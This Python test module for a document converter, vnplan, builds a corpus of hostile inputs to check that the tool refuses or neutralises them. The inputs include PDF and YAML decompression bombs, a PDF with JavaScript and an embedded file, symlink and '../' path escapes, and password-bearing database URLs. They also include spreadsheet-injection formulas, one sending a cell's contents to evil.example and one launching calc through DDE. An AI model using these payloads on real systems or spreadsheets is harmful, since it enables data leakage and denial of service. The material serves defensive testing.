"""A corpus of broken and hostile inputs, built by the tests (nothing is downloaded), and what vnplan must say.

`build(folder)` writes every input case into `folder/in/` (and a file outside it for the link case) and returns
the cases: path under `in/` -> the error code expected, or None for a file that must convert (with the warnings
expected). The other builders make what is hostile around the inputs: batch manifests of every bad shape
(`BAD_MANIFESTS`), links planted in an output folder (`plant_links`), a JSON nested 200,000 deep (`DEEP_JSON`), a
billion-laughs profile (`LAUGHS`), spreadsheet formulas in a result's cells (`plant_formulas`), PostgreSQL URLs
that carry a password (`SECRET_URLS`) and texts of any size in the shapes that once made a stage quadratic
(`LONG_SHAPES`).
"""

from __future__ import annotations

import random
import textwrap
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pymupdf

from .conftest import SAMPLES
from .test_legacy import tcvn3

LAYER_PDF = SAMPLES / "000_475196faf128e58a.layer.pdf"
PLAN_TXT = SAMPLES / "000_475196faf128e58a.txt"

ENGLISH = (
    "Plan for the voluntary blood donation movement of the province in 2021. The provincial steering committee "
    "asks every department, agency and district to organise donation days, to inform the public about the "
    "benefits of giving blood, and to report the number of units collected at the end of each quarter. The "
    "target for the year is six thousand units of blood, of which at least ninety percent meet the standard. "
    "Schools, enterprises and the armed forces are encouraged to take part, and volunteers who give blood "
    "regularly will be honoured at the provincial ceremony in June. The health department will check the "
    "quality of every unit and keep records of donors. "
)


@dataclass(frozen=True)
class Case:
    error: str | None  # the error code, or None when the file must convert
    warnings: frozenset[str] = field(default_factory=frozenset)


def bomb_pdf(side: int = 20_000) -> bytes:
    """One A4 page showing one side x side greyscale image: a few hundred kB that would unpack to side² bytes."""
    z = zlib.compressobj(9)
    row_block = b"\xff" * (side * 100)
    image = b"".join(z.compress(row_block) for _ in range(side // 100)) + z.flush()
    content = b"q 595 0 0 842 0 0 cm /Im0 Do Q"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (side, side, len(image), image),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def text_pdf(lines: list[str], path: Path, size: tuple[float, float] = (595, 842)) -> None:
    doc = pymupdf.open()
    page = doc.new_page(width=size[0], height=size[1])
    y = 60.0
    for line in lines:
        if y > min(800, size[1] - 40):
            page, y = doc.new_page(width=size[0], height=size[1]), 60.0
        page.insert_text((56, y), line, fontname="helv", fontsize=11)
        y += 16
    doc.save(path)


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given objects (numbered from 1; the first is the catalog), with a correct cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _page(resources: bytes, contents: bytes, size: tuple[int, int] = (595, 842)) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources %s /Contents %s >>" % (
        *size,
        resources,
        contents,
    )


_CATALOG = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
_HELVETICA = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def inline_image(side: int, width_key: bytes = b"/W") -> bytes:
    """Content that draws one side x side greyscale inline image (BI … ID … EI): small, but side² bytes decoded."""
    z = zlib.compressobj(9)
    rows = b"\xff" * (side * 100)
    data = b"".join(z.compress(rows) for _ in range(side // 100)) + z.flush()
    image = b"BI %s %d /H %d /CS /G /BPC 8 /F /Fl /DP << /Predictor 1 >> ID\n%s\nEI" % (width_key, side, side, data)
    return b"q 595 0 0 842 0 0 cm " + image + b" Q"


def inline_bomb_pdf(side: int = 30_000, where: str = "page") -> bytes:
    """One page drawing an inline-image bomb (30,000 x 30,000: 900 MB decoded, from under 1 MB), `where`: in the
    page's contents, as the second stream of a contents array (with an escaped `/#57` key), in a form XObject, a
    tiling pattern, or a Type3 glyph."""
    image = inline_image(side, b"/#57" if where == "array" else b"/Width")
    text = b"BT /F1 12 Tf 72 720 Td (Ke hoach) Tj ET "
    objects = {
        "page": [_page(_HELVETICA, b"4 0 R"), _stream(b"", text + image)],
        "array": [_page(_HELVETICA, b"[4 0 R 5 0 R]"), _stream(b"", text), _stream(b"", image)],
        "form": [
            _page(b"<< /XObject << /X1 5 0 R >> >>", b"4 0 R"),
            _stream(b"", b"/X1 Do"),
            _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]", image),
        ],
        "pattern": [
            _page(b"<< /Pattern << /P1 5 0 R >> >>", b"4 0 R"),
            _stream(b"", b"/Pattern cs /P1 scn 0 0 595 842 re f"),
            _stream(
                b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 595 842] /XStep 595 /YStep 842 /Resources <<>>",
                image,
            ),
        ],
        "type3": [
            _page(b"<< /Font << /F1 5 0 R >> >>", b"4 0 R"),
            _stream(b"", b"BT /F1 12 Tf 100 100 Td (a) Tj ET"),
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] "
            b"/CharProcs 6 0 R /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 "
            b"/Widths [1000] /Resources << >> >>",
            b"<< /a 7 0 R >>",
            _stream(b"", b"1000 0 d0 " + image),
        ],
    }
    return raw_pdf(_CATALOG + objects[where])


def huge_page_pdf(inches: int = 150) -> bytes:
    """One page `inches` square with a line of text and a filled square: 272 million pixels at 110 dpi."""
    side = inches * 72
    content = b"BT /F1 400 Tf 100 %d Td (Ke hoach) Tj ET 0 0 1 rg 50 50 %d %d re f" % (side - 500, side // 2, side // 2)
    return raw_pdf([*_CATALOG, _page(_HELVETICA, b"4 0 R", (side, side)), _stream(b"", content)])


def build(folder: Path) -> dict[str, Case]:
    src = folder / "in"
    src.mkdir(parents=True)
    layer = LAYER_PDF.read_bytes()
    cases: dict[str, Case] = {}

    (src / "empty.pdf").write_bytes(b"")
    cases["empty.pdf"] = Case("not_pdf")
    (src / "truncated.pdf").write_bytes(layer[:600])
    cases["truncated.pdf"] = Case("corrupt")
    (src / "random.pdf").write_bytes(random.Random(2021).randbytes(50_000))
    cases["random.pdf"] = Case("not_pdf")
    (src / "page.pdf").write_text("<!DOCTYPE html><html><body><h1>Kế hoạch</h1></body></html>", "utf-8")
    cases["page.pdf"] = Case("not_pdf")
    with zipfile.ZipFile(src / "letter.pdf", "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document><w:body><w:p>Kế hoạch</w:p></w:body></w:document>")
    cases["letter.pdf"] = Case("corrupt")  # a Word document by its bytes (whatever its name), and a broken one

    doc = pymupdf.open(LAYER_PDF)
    doc.save(src / "locked.pdf", encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="secret", owner_pw="owner")
    cases["locked.pdf"] = Case("encrypted")

    (src / "bomb.pdf").write_bytes(bomb_pdf())
    cases["bomb.pdf"] = Case("too_large")

    blank = pymupdf.open()
    for _ in range(2000):
        blank.new_page()
    blank.save(src / "blank-2000.pdf")
    cases["blank-2000.pdf"] = Case("too_large")

    active = pymupdf.open(LAYER_PDF)
    active.embfile_add("payload.exe", b"MZ\x90\x00 not a program", filename="payload.exe")
    catalog = active.pdf_catalog()
    active.xref_set_key(catalog, "OpenAction", "<< /S /JavaScript /JS (app.alert\\('hello'\\)) >>")
    active.save(src / "active.pdf")
    cases["active.pdf"] = Case(None, frozenset({"javascript_ignored", "embedded_files_ignored"}))

    # TCVN3 has no curly quotes: straight ones, so that every line encodes whole
    plain = PLAN_TXT.read_text("utf-8").translate(str.maketrans("“”‘’", "\"\"''"))
    plan_lines = [ln for ln in plain.splitlines() if ln.strip()][:60]
    text_pdf([tcvn3(ln) for ln in plan_lines], src / "vntime.pdf")
    cases["vntime.pdf"] = Case(None)

    text_pdf([ENGLISH[i : i + 95] for i in range(0, len(ENGLISH) * 2, 95)][:30], src / "english.pdf")
    cases["english.pdf"] = Case("not_vietnamese")

    (src / "legacy-8bit.txt").write_bytes("\n".join(tcvn3(ln) for ln in plan_lines).encode("latin-1"))
    cases["legacy-8bit.txt"] = Case(None, frozenset({"legacy_encoding"}))

    (src / "Kế hoạch số 33 (bản chụp).txt").write_bytes(PLAN_TXT.read_bytes())
    cases["Kế hoạch số 33 (bản chụp).txt"] = Case(None)

    outside = folder / "outside"
    outside.mkdir()
    (outside / "x.pdf").write_bytes(layer)
    (src / "escape.pdf").symlink_to(Path("..") / "outside" / "x.pdf")
    cases["escape.pdf"] = Case("outside_input")

    (src / "empty.txt").write_bytes(b"")
    cases["empty.txt"] = Case("no_text")
    (src / "inline-bomb.pdf").write_bytes(inline_bomb_pdf())
    cases["inline-bomb.pdf"] = Case("too_large")
    # a text-layer page 200 inches square: read as text, but no renderer may draw it at 110 dpi
    text_pdf(plan_lines[:40], src / "huge-page.pdf", size=(14_400, 14_400))
    cases["huge-page.pdf"] = Case(None)
    cases.update(_names(src, PLAN_TXT.read_bytes()))
    return cases


LONG_FOLDER = "Kế hoạch phòng chống dịch bệnh và hiến máu tình nguyện năm 2021"  # 84 bytes of UTF-8


def _names(src: Path, plan: bytes) -> dict[str, Case]:
    """Inputs whose names are hostile to the output folder: names of dots, names that clash once joined or without
    their suffix, the manifest's name, and a path whose joined name is longer than a file system allows."""
    rels = ["..txt", "...txt", "manifest.txt", "plan.txt", "plan.md", "a/b.txt", "a__b.txt",
            "/".join([LONG_FOLDER] * 4) + "/Kế hoạch số 33.txt"]  # fmt: skip
    for rel in rels:
        (src / rel).parent.mkdir(parents=True, exist_ok=True)
        (src / rel).write_bytes(plan)
    return {rel: Case(None) for rel in rels}


BAD_MANIFESTS: dict[str, bytes] = {
    "list": b"[]",
    "null": b"null",
    "string": b'"documents"',
    "not-utf8": b'{"manifest_version": 2, "documents": {"\xff\xfe": 1}}',
    "deep": b"[" * 200_000,
    "string-entry": b'{"manifest_version": 2, "documents": {"plan.txt": "done"}}',
    "null-output": b'{"manifest_version": 2, "documents": {"plan.txt": {"sha256": "0", "pipeline_version": "0", '
    b'"output": null, "file": "x"}}}',
    "documents-list": b'{"manifest_version": 2, "documents": []}',
    # an entry whose output leaves the folder: a batch removes a stale entry's output, so it must never take this
    "escape": b'{"manifest_version": 2, "documents": {"gone.txt": {"sha256": "0", "pipeline_version": "0", '
    b'"output": "../victim.json", "file": "x"}}}',
    "old-version": b'{"documents": {"plan": {"sha256": "0", "pipeline_version": "0", "output": "plan.json"}}}',
}
"""Batch manifests of every bad shape: each must only cost a redo."""


def plant_links(out: Path, victim: Path) -> dict[str, Path]:
    """Symbolic links to `victim` at each name a batch writes in its output folder; returns them by name."""
    out.mkdir(parents=True, exist_ok=True)
    links = {}
    for name in (".vnplan.lock", "errors.jsonl", "manifest.json", "review"):
        links[name] = out / name
        links[name].symlink_to(victim)
    return links


DEEP_JSON = b"[" * 200_000 + b"]" * 200_000
"""Valid JSON nested 200,000 deep: deeper than any parser's recursion."""

LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
)
"""A billion-laughs profile: 600 bytes of YAML whose aliases expand to 9^9 strings."""

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "＝1+1"]  # fmt: skip
"""Cells a spreadsheet would run as formulas (OWASP's list, and a full-width equals sign)."""


def plant_formulas(result: dict[str, Any]) -> None:
    """Put the formulas in text cells of a result that every CSV shows: the number, a target's subject, metric and
    unit, a body's name and its first task, a quota row's unit."""
    result["document"]["number"] = FORMULAS[0]
    target = result["targets"][0]
    target["subject"], target["metric"], target["unit"] = FORMULAS[1], FORMULAS[2], FORMULAS[3]
    body = result["responsible_bodies"][0]
    body["name"], body["tasks"][0]["text"] = FORMULAS[4], FORMULAS[5]
    if result["quota_tables"]:
        result["quota_tables"][0]["rows"][0]["unit"] = FORMULAS[6]


SECRET = "hunter2secret"
SECRET_URLS = [
    f"postgresql://u@127.0.0.1:9/x?password={SECRET}",
    f"postgresql://u:{SECRET}@127.0.0.1:9/x",
    f"postgresql://u:{SECRET}@127.0.0.1:notaport/x",  # malformed: the port is not a number
    "postgresql://u:hun@ter2/secret@127.0.0.1:9/x",  # malformed: @ and / unescaped in the password
    f"postgresql://u@127.0.0.1:9/x?sslmode=disable&sslpassword={SECRET}",
]
"""PostgreSQL URLs that carry a password: it must never be printed."""


LONG_HEAD = "UBND TỈNH NGHỆ AN\nSố: 45/KH-UBND\nNghệ An, ngày 10 tháng 01 năm 2024\nKẾ HOẠCH\nTriển khai năm 2024\n\n"


def word_run(n: int) -> str:
    """A run of n word characters: an e-mail pattern free to start anywhere scanned it once per letter."""
    return LONG_HEAD + "I. LIÊN HỆ\nĐịa chỉ thư: " + "a" * n + " @ xem tại trang " + "b" * (n // 10) + "\n"


def numbers_list(count: int) -> str:
    """`đạt 2% số xã loại 1, đạt 3% số xã loại 2, …`: `count` targets in one run of text."""
    return ", ".join(f"đạt {i % 97 + 1}% số xã loại {i}" for i in range(1, count + 1))


def many_numbers(n: int) -> str:
    """One sentence of about n characters full of targets: each target kept the sentence and re-read the text
    before it."""
    return LONG_HEAD + "I. MỤC TIÊU\nPhấn đấu " + numbers_list(max(n // 30, 1)) + ".\n"


def prose(n: int) -> str:
    """n characters of ordinary plan prose in one paragraph."""
    sentence = "Các sở, ban, ngành tổ chức tuyên truyền sâu rộng đến cán bộ, công chức và nhân dân trên địa bàn tỉnh. "
    body = (sentence * (n // len(sentence) + 1))[:n]
    return LONG_HEAD + "I. NHIỆM VỤ\n1. Sở Tư pháp chủ trì: " + body + "\n"


def wrapped(n: int) -> str:
    """The prose, wrapped every seventy-odd characters as a text file or a PDF's lines are: one paragraph of many
    lines, each line end a join point (the test for a broken word once searched the whole text before each)."""
    return textwrap.fill(prose(n), 72, break_long_words=False, replace_whitespace=False)


LONG_SHAPES = {"word_run": word_run, "numbers": many_numbers, "prose": prose, "wrapped": wrapped}
